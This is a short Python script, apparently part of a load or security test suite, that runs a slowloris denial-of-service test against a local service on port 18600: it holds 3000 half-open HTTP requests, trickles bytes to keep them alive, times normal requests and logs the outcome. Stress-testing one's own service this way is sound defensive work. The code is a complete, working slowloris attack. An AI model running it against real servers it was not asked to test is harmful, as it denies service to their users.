from lib import *
import socket
socks=[]
t0=time.time()
for i in range(3000):
    try:
        s=socket.create_connection(("127.0.0.1",18600), timeout=3)
        s.send(b"GET /api/v1/sources HTTP/1.1\r\nHost: x\r\nX-a: ")
        socks.append(s)
    except Exception as e: print("connect failed at", i, e); break
print("opened", len(socks), "half-open requests in %.1fs" % (time.time()-t0))
t0=time.time(); r=requests.get(BASE+"/api/v1/sources", timeout=10); print("normal request during slowloris:", r.status_code, "%.0fms" % ((time.time()-t0)*1000))
for k in range(3):
    time.sleep(10)
    alive=0
    for s in socks:
        try: s.send(b"b"); alive+=1
        except Exception: pass
    print(f"after {10*(k+1)}s, connections still accepted trickle: {alive}")
t0=time.time(); r=requests.get(BASE+"/api/v1/sources", timeout=10); print("normal request:", r.status_code, "%.0fms" % ((time.time()-t0)*1000))
for s in socks: s.close()
LOG.append({"name":"slowloris 3000 half-open requests","curl":"python3 slowloris.py"}); COUNT[0]+=1
dump("./log-slowloris.json")
